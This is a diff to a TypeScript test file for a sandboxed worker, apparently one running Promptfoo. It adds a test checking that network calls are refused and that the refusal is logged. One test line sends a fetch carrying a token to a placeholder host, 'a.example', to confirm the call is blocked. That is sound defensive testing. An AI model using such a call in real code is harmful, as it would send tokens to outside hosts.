@@ -132,7 +132,7 @@ test("a worker that died while idle is replaced for the next run", async () => {
 test("what the worker prints goes to the log file, also when it fails", async () => {
   const logFile = join(room, "logs", "engine.log");
   const crash = afterAnswers(
-    `console.error("last words"); setTimeout(() => { throw new Error("x") }, 50)`,
+    `host.postMessage({ kind: "log", text: "last words" }); setTimeout(() => { throw new Error("x") }, 50)`,
   );
   await expect(runProgram(crash, { logFile })).rejects.toThrow("stopped");
   expect(await readFile(logFile, "utf8")).toContain("last words");
@@ -164,6 +164,20 @@ test("the installed Promptfoo still has the beacon's mark that the worker sets",
     version: expect.stringMatching(/^0\.123\./),
     beaconSilenced: true,
   });
+});
+
+test("the real worker is cut off, and what it prints about it reaches the log", async () => {
+  const worker = new URL("./worker.ts", import.meta.url).href;
+  const thread = await startProgram(`
+    await import(${JSON.stringify(worker)});
+    await fetch("http://a.example/?token=1").catch(() => {});
+    process.stdout.write("printed", () => host.postMessage("asked"));
+  `);
+  await new Promise<void>((resolve) =>
+    thread.listen({ message: (said) => said === "asked" && resolve(), ended: () => resolve() }),
+  );
+  expect(thread.takeLog()).toBe("network refused: fetch a.example\nprinted");
+  await thread.terminate();
 });
 
 test("look-ups, sockets, datagrams and fetch are refused and reported", async () => {
